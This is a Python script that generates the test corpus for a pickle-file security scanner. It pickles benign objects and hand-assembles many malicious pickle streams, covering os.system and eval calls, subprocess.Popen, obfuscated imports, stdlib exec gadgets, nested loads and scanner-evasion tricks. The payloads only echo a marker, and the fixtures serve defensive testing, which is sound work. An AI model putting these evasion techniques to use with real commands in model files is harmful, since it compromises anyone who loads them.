#!/usr/bin/python3
"""Generate modelgate's committed pickle test corpus.

Usage:  /usr/bin/python3 tests/corpus/make_pickle_fixtures.py OUTDIR

Writes OUTDIR/benign/, OUTDIR/malicious/, OUTDIR/malformed/ and the manifest
OUTDIR/expected.tsv, one line per fixture:

    relative/path <TAB> ALLOWED|BLOCKED <TAB> threat,ids|- <TAB> what it tests

THREATS lists the ids that must appear in the scan report (others may appear
too); `ALLOWED` with `-` means the scanner must report no finding at all.

Safety rules this script keeps:
  * Nothing is ever unpickled here: no pickle.load(s), torch.load, joblib.load,
    numpy.load(allow_pickle=True).  (pickletools.dis is a disassembler and safe.)
  * Benign fixtures are real objects pickled by the real pickler.
  * Malicious and malformed streams are assembled opcode by opcode with `Asm`
    below, never by pickling a malicious object.  Payload arguments are
    harmless (`echo modelgate-fixture`, non-routable URLs, /tmp paths).

Determinism: the output is byte-identical on every run (fixed seeds, no
timestamps).  The script re-executes itself with PYTHONHASHSEED=0 and
single-threaded BLAS/OpenMP so that hash order and thread counts stored by
scikit-learn cannot vary, and it rewrites the one address-derived value that
torch puts into a pickle (the legacy storage key, see `DetPickler`).
"""

import os
import sys

_ENV = {
    "PYTHONHASHSEED": "0",
    "OMP_NUM_THREADS": "1",
    "OPENBLAS_NUM_THREADS": "1",
    "MKL_NUM_THREADS": "1",
}
if any(os.environ.get(k) != v for k, v in _ENV.items()):
    env = dict(os.environ)
    env.update(_ENV)
    os.execve(sys.executable, [sys.executable] + sys.argv, env)

import collections  # noqa: E402
import datetime  # noqa: E402
import decimal  # noqa: E402
import fractions  # noqa: E402
import io  # noqa: E402
import marshal  # noqa: E402
import pickle  # noqa: E402
import struct  # noqa: E402
import uuid  # noqa: E402
import warnings  # noqa: E402

CMD = "echo modelgate-fixture"
PYCODE = "import os; os.system('echo modelgate-fixture')"
PYEXPR = "__import__('os').system('echo modelgate-fixture')"

OUT = None
MANIFEST = []


def emit(rel, data, outcome, threats, what):
    """Write one fixture and remember its manifest line."""
    assert outcome in ("ALLOWED", "BLOCKED"), outcome
    assert "\t" not in what and "\n" not in what
    assert rel not in {m[0] for m in MANIFEST}, rel
    with open(os.path.join(OUT, rel), "wb") as f:
        f.write(data)
    MANIFEST.append((rel, outcome, threats or "-", what))


# ---------------------------------------------------------------------------
# A tiny pickle assembler.  Every method appends one opcode (with its argument)
# and returns self so streams read top to bottom like a disassembly.
# ---------------------------------------------------------------------------


class Raw(bytes):
    """Bytes pushed verbatim by Asm.push (an already-assembled sub-sequence)."""


class Asm:
    def __init__(self, proto=None, text=False):
        """proto: emit PROTO n first (n >= 2) and pick binary opcodes.
        text: protocol-0 style (text opcodes only) for push()."""
        self.b = bytearray()
        self.text = text
        self.p = 0 if text else (proto if proto is not None else 1)
        if proto is not None:
            self.proto(proto)

    def done(self):
        return bytes(self.b)

    def raw(self, data):
        self.b += data
        return self

    # -- framing / control -------------------------------------------------
    def proto(self, n):
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n):
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def stop(self):
        return self.raw(b".")

    def mark(self):
        return self.raw(b"(")

    def pop(self):
        return self.raw(b"0")

    def pop_mark(self):
        return self.raw(b"1")

    def dup(self):
        return self.raw(b"2")

    # -- imports and calls -------------------------------------------------
    def glob(self, mod, name):
        return self.raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, mod, name):
        return self.raw(b"i" + mod.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self):
        return self.raw(b"\x93")

    def sglob(self, mod, name):
        return self.sbu(mod).sbu(name).stack_global()

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def obj(self):
        return self.raw(b"o")

    def newobj(self):
        return self.raw(b"\x81")

    def newobj_ex(self):
        return self.raw(b"\x92")

    def ext1(self, code):
        return self.raw(b"\x82" + struct.pack("<B", code))

    def ext2(self, code):
        return self.raw(b"\x83" + struct.pack("<H", code))

    def ext4(self, code):
        return self.raw(b"\x84" + struct.pack("<i", code))

    def call(self, *args):
        """Push args as a tuple and REDUCE (callable must be on the stack)."""
        return self.push(tuple(args)).reduce()

    # -- strings (every string opcode) ---------------------------------------
    def string(self, s, hexall=False):
        """STRING: quoted, Python-escaped, newline-terminated (protocol 0)."""
        out = bytearray(b"S'")
        for c in s.encode("latin1"):
            if not hexall and 0x20 <= c < 0x7F and c not in (0x27, 0x5C):
                out.append(c)
            else:
                out += b"\\x%02x" % c
        return self.raw(bytes(out) + b"'\n")

    def binstring(self, s):
        d = s.encode("latin1")
        return self.raw(b"T" + struct.pack("<i", len(d)) + d)

    def short_binstring(self, s):
        d = s.encode("latin1")
        return self.raw(b"U" + struct.pack("<B", len(d)) + d)

    def unicode(self, s, escapeall=False):
        """UNICODE: raw-unicode-escape, newline-terminated (protocol 0)."""
        if escapeall:
            d = "".join("\\u%04x" % ord(c) for c in s).encode("ascii")
        else:
            for a, b in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"),
                         ("\r", "\\u000d"), ("\x1a", "\\u001a")):
                s = s.replace(a, b)
            d = s.encode("raw-unicode-escape")
        return self.raw(b"V" + d + b"\n")

    def bu(self, s):
        d = s.encode("utf-8", "surrogatepass")
        return self.raw(b"X" + struct.pack("<I", len(d)) + d)

    def sbu(self, s):
        d = s.encode("utf-8", "surrogatepass")
        return self.raw(b"\x8c" + struct.pack("<B", len(d)) + d)

    def bu8(self, s):
        d = s.encode("utf-8", "surrogatepass")
        return self.raw(b"\x8d" + struct.pack("<Q", len(d)) + d)

    # -- bytes ----------------------------------------------------------------
    def binbytes(self, d):
        return self.raw(b"B" + struct.pack("<I", len(d)) + d)

    def short_binbytes(self, d):
        return self.raw(b"C" + struct.pack("<B", len(d)) + d)

    def binbytes8(self, d):
        return self.raw(b"\x8e" + struct.pack("<Q", len(d)) + d)

    # -- memo -----------------------------------------------------------------
    def put(self, i):
        return self.raw(b"p%d\n" % i)

    def get(self, i):
        return self.raw(b"g%d\n" % i)

    def binput(self, i):
        return self.raw(b"q" + struct.pack("<B", i))

    def binget(self, i):
        return self.raw(b"h" + struct.pack("<B", i))

    def long_binput(self, i):
        return self.raw(b"r" + struct.pack("<I", i))

    def long_binget(self, i):
        return self.raw(b"j" + struct.pack("<I", i))

    def memoize(self):
        return self.raw(b"\x94")

    # -- generic push of plain Python values -----------------------------------
    def push(self, v):
        if isinstance(v, Raw):
            return self.raw(v)
        if v is None:
            return self.raw(b"N")
        if v is True or v is False:
            if self.text or self.p < 2:
                return self.raw(b"I01\n" if v else b"I00\n")
            return self.raw(b"\x88" if v else b"\x89")
        if isinstance(v, int):
            if self.text:
                return self.raw(b"I%d\n" % v)
            if 0 <= v < 0x100:
                return self.raw(b"K" + struct.pack("<B", v))
            if 0 <= v < 0x10000:
                return self.raw(b"M" + struct.pack("<H", v))
            if -0x80000000 <= v < 0x80000000:
                return self.raw(b"J" + struct.pack("<i", v))
            d = pickle.encode_long(v)
            return self.raw(b"\x8a" + struct.pack("<B", len(d)) + d)
        if isinstance(v, str):
            if self.text:
                return self.unicode(v)
            return self.sbu(v) if len(v.encode()) < 256 and self.p >= 4 else self.bu(v)
        if isinstance(v, bytes):
            assert not self.text and self.p >= 3, "bytes need protocol 3+"
            return self.short_binbytes(v) if len(v) < 256 else self.binbytes(v)
        if isinstance(v, tuple):
            if self.p >= 2 and 1 <= len(v) <= 3:
                for x in v:
                    self.push(x)
                return self.raw({1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(v)])
            if not v and not self.text:
                return self.raw(b")")
            self.mark()
            for x in v:
                self.push(x)
            return self.raw(b"t")
        if isinstance(v, list):
            if self.text:
                self.mark()
                for x in v:
                    self.push(x)
                return self.raw(b"l")
            self.raw(b"]")
            if v:
                self.mark()
                for x in v:
                    self.push(x)
                self.raw(b"e")
            return self
        if isinstance(v, dict):
            if self.text:
                self.mark()
                for k, x in v.items():
                    self.push(k).push(x)
                return self.raw(b"d")
            self.raw(b"}")
            if v:
                self.mark()
                for k, x in v.items():
                    self.push(k).push(x)
                self.raw(b"u")
            return self
        raise TypeError(type(v))


def p0_call(mod, name, *args):
    """Protocol-0 classic: GLOBAL mod name, MARK args TUPLE, REDUCE, STOP."""
    a = Asm(text=True).glob(mod, name).mark()
    for x in args:
        a.push(x)
    return a.raw(b"t").reduce().stop().done()


def p0_classic(mod, name, arg):
    """The textbook payload: c<mod>\\n<name>\\n(S'<arg>'\\ntR."""
    return Asm(text=True).glob(mod, name).mark().string(arg).raw(b"t").reduce().stop().done()


def p2_call(mod, name, *args, proto=2):
    """GLOBAL mod name, args tuple, REDUCE, STOP under PROTO `proto`."""
    return Asm(proto).glob(mod, name).call(*args).stop().done()


def p4_call(mod, name, *args):
    """STACK_GLOBAL mod name (dotted names allowed at protocol 4), REDUCE."""
    return Asm(4).sglob(mod, name).call(*args).stop().done()


def os_system_p2():
    return p2_call("os", "system", CMD)


# ---------------------------------------------------------------------------
# Benign fixtures: real objects, real pickler.
# ---------------------------------------------------------------------------


def benign_builtins():
    nested = {
        "list": [1, 2, [3, 4, (5, 6)], []],
        "dict": {"a": {"b": {"c": None}}, 1: "int key", (1, 2): "tuple key"},
        "tuple": (1, (2, (3,)), ()),
        "set": {1, 2, 3, 1000},
        "frozenset": frozenset({4, 5, 6}),
        "empty": ([], {}, (), set(), frozenset()),
        "shared": None,
    }
    shared = [7, 8]
    nested["shared"] = (shared, shared)  # memo reuse
    scalars = {
        "bytes": b"\x00\x01modelgate\xff\n",
        "bytes_empty": b"",
        "bytearray": bytearray(b"abc\x00\xff"),
        "str": "h\u00e9llo w\u00f6rld \u2713 \U0001d518\U0001d52b \\ back\\slash \0 nul\nnewline",
        "ints": [0, 1, -1, 255, 256, 65535, 65536, 2**31 - 1, -2**31, 2**31, -2**31 - 1,
                 2**63, 2**100, -2**200, 10**40],
        "floats": [0.0, -0.0, 1.5, -2.25, 1e308, 5e-324, float("inf"), float("-inf"),
                   3.141592653589793],
        "complex": complex(1.0, -2.5),
        "consts": [None, True, False],
    }
    selfref = [1, 2]
    selfref.append(selfref)
    selfdict = {"name": "loop"}
    selfdict["me"] = selfdict
    for proto in range(6):
        emit(f"benign/builtins_nested_p{proto}.pkl", pickle.dumps(nested, protocol=proto),
             "ALLOWED", "-", f"nested list/dict/tuple/set/frozenset, memo reuse, protocol {proto}")
        emit(f"benign/builtins_scalars_p{proto}.pkl", pickle.dumps(scalars, protocol=proto),
             "ALLOWED", "-",
             f"bytes, bytearray, unicode str, big ints, floats, complex, None/True/False, protocol {proto}")
        emit(f"benign/builtins_selfref_p{proto}.pkl",
             pickle.dumps([selfref, selfdict], protocol=proto),
             "ALLOWED", "-", f"self-referencing list and dict (memo GET of a container), protocol {proto}")


def benign_stdlib():
    colls = {
        "ordered": collections.OrderedDict([("b", 1), ("a", 2), ("c", [3])]),
        "defaultdict": collections.defaultdict(list, {"x": [1, 2], "y": []}),
        "counter": collections.Counter("abracadabra"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "deque_unbounded": collections.deque(["a", "b"]),
    }
    times = {
        "date": datetime.date(2024, 2, 29),
        "datetime_utc": datetime.datetime(2024, 1, 2, 3, 4, 5, 678901, tzinfo=datetime.timezone.utc),
        "datetime_naive": datetime.datetime(1999, 12, 31, 23, 59, 59),
        "timedelta": datetime.timedelta(days=1, seconds=2, microseconds=3),
        "time": datetime.time(12, 30, 15),
    }
    numbers = {
        "decimal": decimal.Decimal("3.14159265358979323846264338327950288"),
        "decimal_neg": decimal.Decimal("-1E-7"),
        "fraction": fractions.Fraction(22, 7),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
    }
    for proto in range(6):
        emit(f"benign/collections_p{proto}.pkl", pickle.dumps(colls, protocol=proto), "ALLOWED", "-",
             f"OrderedDict, defaultdict(list), Counter, deque, protocol {proto}")
        emit(f"benign/datetime_p{proto}.pkl", pickle.dumps(times, protocol=proto), "ALLOWED", "-",
             f"date, datetime with timezone.utc, naive datetime, timedelta, time, protocol {proto}")
        emit(f"benign/decimal_fraction_uuid_p{proto}.pkl", pickle.dumps(numbers, protocol=proto),
             "ALLOWED", "-", f"decimal.Decimal, fractions.Fraction, uuid.UUID, protocol {proto}")


def benign_numpy():
    import numpy as np

    arrays = {
        "float32": np.arange(12, dtype=np.float32).reshape(3, 4) / 7,
        "int64": np.arange(-5, 5, dtype=np.int64),
        "bool": np.array([True, False, True, True]),
        "structured": np.array([(1.5, 2, b"ab"), (-3.0, 4, b"cdef")],
                               dtype=[("x", "<f4"), ("y", "<i2"), ("name", "S4")]),
        "0d": np.array(3.5),
        "fortran": np.asfortranarray(np.arange(6, dtype=np.float64).reshape(2, 3)),
        "bigendian": np.arange(5, dtype=">i4"),
    }
    for name, arr in arrays.items():
        for proto in (0, 2, 4, 5):
            emit(f"benign/numpy_{name}_p{proto}.pkl", pickle.dumps(arr, protocol=proto), "ALLOWED",
                 "-", f"numpy ndarray ({name}), protocol {proto}")
    scalars = [np.float64(1.5), np.float32(-2.0), np.float16(0.5), np.int32(7), np.int64(-8),
               np.uint8(255), np.bool_(True), np.complex64(1 - 2j), np.str_("s"), np.dtype("<f8")]
    for proto in (0, 2, 4, 5):
        emit(f"benign/numpy_scalars_p{proto}.pkl", pickle.dumps(scalars, protocol=proto), "ALLOWED",
             "-", f"numpy scalars and a dtype, protocol {proto}")
    rng = np.random.default_rng(12345)
    rng.random(3)
    legacy = np.random.RandomState(0)
    legacy.rand(2)
    for proto in (2, 4, 5):
        emit(f"benign/numpy_rng_p{proto}.pkl", pickle.dumps(rng, protocol=proto), "ALLOWED", "-",
             f"np.random.default_rng() Generator state (PCG64, __generator_ctor), protocol {proto}")
        emit(f"benign/numpy_randomstate_p{proto}.pkl", pickle.dumps(legacy, protocol=proto),
             "ALLOWED", "-", f"legacy np.random.RandomState (MT19937), protocol {proto}")


def benign_sklearn():
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(24, 3))
    y = (X[:, 0] + 0.5 * X[:, 1] > 0).astype(np.int64)
    models = {
        "logreg": LogisticRegression(),
        "tree": DecisionTreeClassifier(max_depth=3, random_state=0),
        "forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0),
        "scaler": StandardScaler(),
        "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]),
        "gboost": GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0),
        "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0),
    }
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, m in models.items():
            if name in ("scaler", "kmeans"):
                m.fit(X)
            else:
                m.fit(X, y)
            protos = (0, 2, 4, 5) if name == "logreg" else (2, 4, 5)
            for proto in protos:
                emit(f"benign/sklearn_{name}_p{proto}.pkl", pickle.dumps(m, protocol=proto),
                     "ALLOWED", "-", f"fitted sklearn {type(m).__name__}, protocol {proto}")


def benign_torch():
    import torch

    class DetPickler(pickle.Pickler):
        """pickle.dumps, except for one address-derived value.

        torch 1.13 pickles a storage as torch.storage._load_from_bytes(b) where
        b is a legacy torch.save() stream naming the storage by str(_cdata), a
        memory address.  We rewrite that key (a BINUNICODE string, present
        once in the main pickle and once in the key list) to "0", "1", ...,
        exactly what torch would write if the address were that number.
        """

        def __init__(self, f, protocol):
            super().__init__(f, protocol=protocol)
            self.n = 0

        def reducer_override(self, obj):
            if not isinstance(obj, torch.storage.TypedStorage):
                return NotImplemented
            fn, (blob,) = obj.__reduce__()
            old = str(obj._storage._cdata).encode()
            new = str(self.n).encode()
            self.n += 1
            pat = b"X" + struct.pack("<I", len(old)) + old
            assert blob.count(pat) == 2, "unexpected legacy torch.save layout"
            blob = blob.replace(pat, b"X" + struct.pack("<I", len(new)) + new)
            return fn, (blob,)

    def dumps(o, proto):
        f = io.BytesIO()
        DetPickler(f, proto).dump(o)
        return f.getvalue()

    torch.manual_seed(0)
    tensors = {
        "float32": torch.randn(2, 3),
        "float16": torch.randn(4).to(torch.float16),
        "bfloat16": torch.randn(4).to(torch.bfloat16),
        "int8": torch.arange(-4, 4, dtype=torch.int8),
        "complex64": torch.complex(torch.randn(3), torch.randn(3)),
        "parameter": torch.nn.Parameter(torch.randn(2, 2)),
        "state_dict": torch.nn.Linear(3, 2).state_dict(),
    }
    for name, t in tensors.items():
        protos = (0, 2, 4, 5) if name == "float32" else (2, 4)
        for proto in protos:
            emit(f"benign/torch_{name}_p{proto}.pkl", dumps(t, proto), "ALLOWED", "-",
                 f"torch {name} via pickle.dumps (storage as torch.storage._load_from_bytes of a "
                 f"legacy torch.save stream), protocol {proto}")


# ---------------------------------------------------------------------------
# Malicious fixtures: one technique each.
# ---------------------------------------------------------------------------


def M(name, data, threats, what, outcome="BLOCKED", ext=".pkl"):
    emit(f"malicious/{name}{ext}", data, outcome, threats, what)


def malicious_basic():
    for mod in ("os", "posix", "nt"):
        M(f"{mod}_system_p0", p0_classic(mod, "system", CMD), "MG-PKL-100",
          f"classic protocol-0 GLOBAL {mod}.system, STRING argument, REDUCE")
    M("builtins_eval_p2", p2_call("builtins", "eval", PYEXPR), "MG-PKL-100", "GLOBAL builtins.eval")
    M("builtins_exec_p2", p2_call("builtins", "exec", PYCODE), "MG-PKL-100", "GLOBAL builtins.exec")
    M("py2_builtin_eval_p0", p0_call("__builtin__", "eval", PYEXPR), "MG-PKL-100",
      "python-2 module name __builtin__.eval (alias of builtins)")
    M("builtins_import_getattr_p2",
      Asm(2).glob("builtins", "getattr").glob("builtins", "__import__").call("os").push("system")
      .raw(b"\x86").reduce().call(CMD).stop().done(),
      "MG-PKL-100", "builtins.__import__('os') + builtins.getattr(..., 'system')(cmd)")

    # subprocess.Popen through each object-creating opcode.
    M("subprocess_popen_inst_p0",
      Asm(text=True).mark().push(["echo", "modelgate-fixture"]).inst("subprocess", "Popen").stop().done(),
      "MG-PKL-100", "INST subprocess.Popen (import + call in one opcode)")
    M("subprocess_popen_obj_p1",
      Asm().mark().glob("subprocess", "Popen").push(["echo", "modelgate-fixture"]).obj().stop().done(),
      "MG-PKL-100", "OBJ subprocess.Popen (protocol 1)")
    M("subprocess_popen_newobj_p2",
      Asm(2).glob("subprocess", "Popen").push((["echo", "modelgate-fixture"],)).newobj().stop().done(),
      "MG-PKL-100", "NEWOBJ subprocess.Popen (cls.__new__; import must be judged whatever the opcode)")
    M("subprocess_popen_newobj_ex_p4",
      Asm(4).sglob("subprocess", "Popen").push((CMD,)).push({"shell": True}).newobj_ex().stop().done(),
      "MG-PKL-100", "NEWOBJ_EX subprocess.Popen with kwargs")

    # BUILD-based call: set an instance attribute __setstate__ = os.system via
    # the (state, slotstate) form, then BUILD again so the loader calls it.
    a = Asm(2).glob("collections", "OrderedDict").raw(b")").reduce()
    a.raw(b"}")                                   # state: {}
    a.raw(b"}").push("__setstate__").glob("os", "system").raw(b"s")  # slotstate
    a.raw(b"\x86").build()                        # setattr(od, '__setstate__', os.system)
    a.push(CMD).build()                           # od.__setstate__(cmd) -> os.system(cmd)
    M("build_setstate_os_system_p2", a.stop().done(), "MG-PKL-100",
      "BUILD ({}, {'__setstate__': os.system}) then BUILD cmd: call without REDUCE")


def malicious_string_operands():
    """STACK_GLOBAL fed by every string opcode; the scanner must decode each."""
    ops = {
        "string": lambda a, s: a.string(s),
        "string_hexescaped": lambda a, s: a.string(s, hexall=True),
        "binstring": lambda a, s: a.binstring(s),
        "short_binstring": lambda a, s: a.short_binstring(s),
        "unicode": lambda a, s: a.unicode(s),
        "unicode_uescaped": lambda a, s: a.unicode(s, escapeall=True),
        "binunicode": lambda a, s: a.bu(s),
        "short_binunicode": lambda a, s: a.sbu(s),
        "binunicode8": lambda a, s: a.bu8(s),
    }
    for name, push in ops.items():
        a = Asm(4)
        push(a, "os")
        push(a, "system")
        a.stack_global().call(CMD).stop()
        M(f"stack_global_{name}", a.done(), "MG-PKL-100",
          f"STACK_GLOBAL os system with both operands pushed by {name.upper()}")


def malicious_memo():
    a = Asm(4).sbu("os").put(0).pop().sbu("system").put(1).pop().get(0).get(1)
    M("memo_put_get_text", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "STACK_GLOBAL operands stored with PUT and fetched with GET (text memo opcodes)")
    a = Asm(4).sbu("os").binput(3).pop().sbu("system").binput(200).pop().binget(3).binget(200)
    M("memo_binput_binget", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "STACK_GLOBAL operands through BINPUT/BINGET")
    a = Asm(4).sbu("os").long_binput(70000).pop().sbu("system").long_binput(0xFFFFFFFF).pop()
    a.long_binget(70000).long_binget(0xFFFFFFFF)
    M("memo_long_binput_long_binget", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "STACK_GLOBAL operands through LONG_BINPUT/LONG_BINGET with large keys")
    a = Asm(4).sbu("os").memoize().pop().sbu("system").memoize().pop().binget(0).binget(1)
    M("memo_memoize", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "STACK_GLOBAL operands through MEMOIZE (implicit keys 0, 1) and BINGET")
    a = Asm(4).sbu("numpy").binput(0).pop().sbu("os").binput(0).pop()
    a.sbu("system").binput(1).pop().binget(0).binget(1)
    M("memo_overwrite", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "memo key 0 first holds 'numpy' then is overwritten with 'os' (last write wins)")
    a = Asm(4).sbu("os").mark().sbu("numpy").sbu("ndarray").pop_mark().sbu("system")
    M("pop_mark_operands", a.stack_global().call(CMD).stop().done(), "MG-PKL-100",
      "POP_MARK discards decoy operands between the real STACK_GLOBAL operands")


def malicious_ext():
    for op, code in (("ext1", 0x41), ("ext2", 0x1234), ("ext4", 0x12345678)):
        a = Asm(2)
        getattr(a, op)(code)
        M(f"{op}_registry", a.call(CMD).stop().done(), "MG-PKL-102",
          f"{op.upper()} copyreg extension-registry import (code {code:#x}) + REDUCE")


def malicious_structure():
    benign = pickle.dumps({"weights": [0.1, 0.2], "name": "model"}, protocol=2)
    M("concat_benign_then_malicious", benign + os_system_p2(), "MG-PKL-100",
      "two pickles back to back: benign stream then os.system stream")
    payload = Asm(2).glob("os", "system").call(CMD).done()
    M("payload_then_garbage", payload + b"\xff\xfe MODELGATE-BROKEN \x00", "MG-PKL-100,MG-PKL-400",
      "nullifAI: os.system REDUCE, then an unknown opcode; globals must survive the parse error")
    M("payload_then_eof", payload, "MG-PKL-100,MG-PKL-400",
      "os.system REDUCE then end of file without STOP")
    M("eop_payload_then_exception",
      Asm(2).glob("os", "system").call(CMD).pop().push(1).raw(b")").reduce().stop().done(),
      "MG-PKL-100", "exception-oriented: os.system runs, then REDUCE on int 1 raises and aborts load")
    M("call_result_popped",
      Asm(2).glob("os", "system").call(CMD).pop().raw(b"}").stop().done(), "MG-PKL-100",
      "os.system result discarded with POP; the returned object is an empty dict")

    body = Asm().sglob("os", "system").call(CMD).stop().done()
    M("frame_longer_than_file", Asm(4).frame(0x10000).raw(body).done(), "MG-PKL-100,MG-PKL-400",
      "FRAME declares 64 KiB but the file ends earlier; the payload sits inside the short frame")
    a = Asm(4).frame(3).raw(b"\x8c\x02o")     # frame 1 ends inside SHORT_BINUNICODE 'os'
    a.raw(b"s")                               # ... whose last byte lies outside any frame
    rest = Asm().sbu("system").stack_global().call(CMD).stop().done()
    a.frame(len(rest)).raw(rest)
    M("frame_straddle", a.done(), "MG-PKL-100",
      "an opcode straddles a FRAME boundary (CPython's C unpickler accepts it), payload after it")

    a = Asm(4).binbytes8(bytes(8 << 20)).pop()
    M("huge_prefix_binbytes8", a.sglob("os", "system").call(CMD).stop().done(), "MG-PKL-100",
      "8 MiB BINBYTES8 of zeros, POPped, then the payload")
    a = Asm(2).raw(b"]")
    for _ in range(524):
        a.mark().raw(b"K\x01" * 1000).raw(b"e")
    a.pop()
    M("huge_prefix_many_objects", a.glob("os", "system").call(CMD).stop().done(), "MG-PKL-100",
      "a list of 524000 small ints (1 MiB of opcodes, APPENDS of 1000), POPped, then the payload")


def malicious_import_tricks():
    M("submodule_asyncio_unix_events",
      p4_call("asyncio.unix_events", "_UnixSubprocessTransport._start",
              None, CMD, True, None, None, None, 0),
      "MG-PKL-100", "submodule of a blocked package + dotted name: _UnixSubprocessTransport._start")
    M("submodule_multiprocessing_util",
      p2_call("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["/bin/sh", "-c", CMD], ()),
      "MG-PKL-100", "submodule gadget multiprocessing.util.spawnv_passfds")
    M("pkgutil_resolve_name",
      Asm(2).glob("pkgutil", "resolve_name").call("os:system").call(CMD).stop().done(),
      "MG-PKL-100", "universal resolver pkgutil.resolve_name('os:system') then call the result")
    M("importlib_import_module_getattr",
      Asm(2).glob("builtins", "getattr").glob("importlib", "import_module").call("os")
      .push("system").raw(b"\x86").reduce().call(CMD).stop().done(),
      "MG-PKL-100", "importlib.import_module('os') + builtins.getattr(mod, 'system')(cmd)")
    M("attr_walk_numpy_builtins",
      Asm(4).sglob("numpy", "__builtins__.get").call("eval").call(PYEXPR).stop().done(),
      "MG-PKL-101", "STACK_GLOBAL numpy '__builtins__.get': attribute walk from an allowed module to eval")
    M("attr_walk_print_class",
      Asm(4).sglob("builtins", "print.__class__.__base__.__subclasses__").call().stop().done(),
      "MG-PKL-101", "STACK_GLOBAL builtins 'print.__class__.__base__.__subclasses__' introspection chain")
    a = Asm(4).sglob("builtins", "str.join").call("", ["o", "s"])   # module operand = ''.join(...)
    M("stack_global_dynamic_module", a.sbu("system").stack_global().call(CMD).stop().done(),
      "MG-PKL-101", "STACK_GLOBAL whose module operand is the result of a call (str.join)")
    a = Asm(4).sbu("os").sglob("builtins", "str.join").call("", ["sys", "tem"])
    M("stack_global_dynamic_name", a.stack_global().call(CMD).stop().done(),
      "MG-PKL-101", "STACK_GLOBAL whose name operand is the result of a call (str.join)")
    a = Asm(4).push(7).binput(0).pop().binget(0).sbu("system")
    M("stack_global_int_module", a.stack_global().call(CMD).stop().done(),
      "MG-PKL-101", "STACK_GLOBAL whose module operand is an int fetched from the memo")


def malicious_gadgets():
    M("cprofile_run", p2_call("cProfile", "run", PYCODE), "MG-PKL-100", "stdlib exec gadget cProfile.run")
    M("profile_run", p2_call("profile", "run", PYCODE), "MG-PKL-100", "stdlib exec gadget profile.run")
    M("timeit_timeit", p2_call("timeit", "timeit", PYCODE), "MG-PKL-100",
      "stdlib exec gadget timeit.timeit")
    a = Asm(4).sglob("bdb", "Bdb.run").sglob("bdb", "Bdb").raw(b")").reduce().push(PYCODE)
    M("bdb_run", a.raw(b"\x86").reduce().stop().done(), "MG-PKL-100",
      "stdlib exec gadget bdb.Bdb.run(Bdb(), code)")
    a = Asm(4).sglob("code", "InteractiveInterpreter.runcode")
    a.sglob("code", "InteractiveInterpreter").raw(b")").reduce().push(PYCODE)
    M("code_interactiveinterpreter_runcode", a.raw(b"\x86").reduce().stop().done(), "MG-PKL-100",
      "stdlib exec gadget code.InteractiveInterpreter.runcode(instance, source)")
    M("runpy_run_code", p2_call("runpy", "_run_code", PYCODE, {}), "MG-PKL-100",
      "stdlib exec gadget runpy._run_code(source, {})")
    M("pydoc_pipepager", p2_call("pydoc", "pipepager", "modelgate-fixture", CMD), "MG-PKL-100",
      "stdlib shell gadget pydoc.pipepager(text, cmd)")
    M("uuid_get_command_stdout", p2_call("uuid", "_get_command_stdout", "echo", "modelgate-fixture"),
      "MG-PKL-100", "stdlib process gadget uuid._get_command_stdout")
    M("imaplib_imap4_stream", p2_call("imaplib", "IMAP4_stream", CMD), "MG-PKL-100",
      "stdlib shell gadget imaplib.IMAP4_stream(cmd)")
    M("pip_main", p2_call("pip", "main", ["--version"]), "MG-PKL-100",
      "pip.main([...]) gadget (CVE-2025-1716; real attacks pass ['install', pkg])")
    M("torch_collect_env_run", p2_call("torch.utils.collect_env", "run", CMD), "MG-PKL-100",
      "torch-internal shell gadget torch.utils.collect_env.run")


def malicious_nested():
    inner = os_system_p2()
    M("nested_pickle_loads_binbytes",
      Asm(3).glob("pickle", "loads").binbytes(inner).raw(b"\x85").reduce().stop().done(),
      "MG-PKL-100", "pickle.loads of an inner os.system pickle carried as BINBYTES")
    M("nested_pickle_loads_codecs_encode",
      Asm(2).glob("pickle", "loads").glob("_codecs", "encode").bu(inner.decode("latin1"))
      .bu("latin1").raw(b"\x86").reduce().raw(b"\x85").reduce().stop().done(),
      "MG-PKL-100", "pickle.loads(_codecs.encode(str, 'latin1')): protocol-2 style inner bytes")
    M("nested_cpickle_alias_loads",
      Asm(3).glob("_pickle", "loads").push((inner,)).reduce().stop().done(),
      "MG-PKL-100", "_pickle.loads (C module name, alias of pickle) of an inner os.system pickle")
    a = Asm(3).glob("functools", "partial").glob("torch", "load").binput(0).raw(b"\x85").reduce()
    a.mark().binget(0).glob("_io", "BytesIO").push((inner,)).reduce().raw(b"\x85")
    a.push({"weights_only": False}).push(None).raw(b"t").build()   # partial.__setstate__
    M("nested_torch_load_partial", a.raw(b")").reduce().stop().done(), "MG-PKL-100",
      "functools.partial(torch.load, BytesIO(inner), weights_only=False)() via BUILD then call")
    M("nested_torch_load_from_bytes_malicious",
      Asm(3).glob("torch.storage", "_load_from_bytes").push((inner,)).reduce().stop().done(),
      "MG-PKL-100",
      "allowed loader torch.storage._load_from_bytes whose bytes are a malicious pickle: findings of "
      "the nested scan must count")


def malicious_sinks():
    M("lazy_map_tuple",
      Asm(2).glob("builtins", "tuple").glob("builtins", "map").glob("os", "system").push([CMD])
